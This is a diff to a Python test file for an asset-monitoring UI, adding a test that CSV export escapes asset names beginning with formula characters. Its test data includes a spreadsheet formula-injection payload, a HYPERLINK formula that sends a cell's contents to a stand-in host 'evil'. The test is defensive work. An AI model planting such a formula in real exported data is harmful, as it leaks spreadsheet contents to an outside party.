@@ -1,5 +1,6 @@
 """Digging: one asset's card and page, any series in any grouping, files that hold what the store holds, search, notes."""
 
+import csv
 import io
 import json
 from collections.abc import Iterator
@@ -28,7 +29,8 @@ from twin.metrics import METRICS
 from twin.ports import How
 from ui.access.desk import Access
 from ui.dig.card import card, gpus_of, residual_of
-from ui.dig.explore import ACROSS, MAX_READ, Question, Unanswerable, _together, explore, nice_step_s
+from ui.dig.explore import ACROSS, MAX_READ, Answer, Question, Unanswerable, _together, explore, nice_step_s
+from ui.dig.export import written
 from ui.dig.placed import Placed, ran_on, ranges_of
 from ui.dig.search import Index, search
 from ui.faces.server import build_server
@@ -80,6 +82,13 @@ def dig(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dig]:
     yield Dig(live, build_server(live), {"temp_c": temp, "power_w": power})
     live.store.close()
     live.records.close()
+
+
+def test_no_name_of_an_asset_is_a_formula_in_a_spreadsheet() -> None:
+    names = ('=HYPERLINK("http://evil/?"&A2,"x")', "+1", "@x", "-g", "g0")
+    answer = Answer(np.array([0.0]), 60, names, (1,) * 5, {"power_w": np.ones((1, 5))}, False)
+    head = next(csv.reader(io.StringIO(written(answer, Question("gpu", ("power_w",), NOW, NOW), "csv").decode())))
+    assert head == ["time", *(f"'{name}.power_w" for name in names[:4]), "g0.power_w"]
 
 
 SPAN = {"start": (NOW - timedelta(hours=HOURS)).isoformat(), "end": NOW.isoformat()}
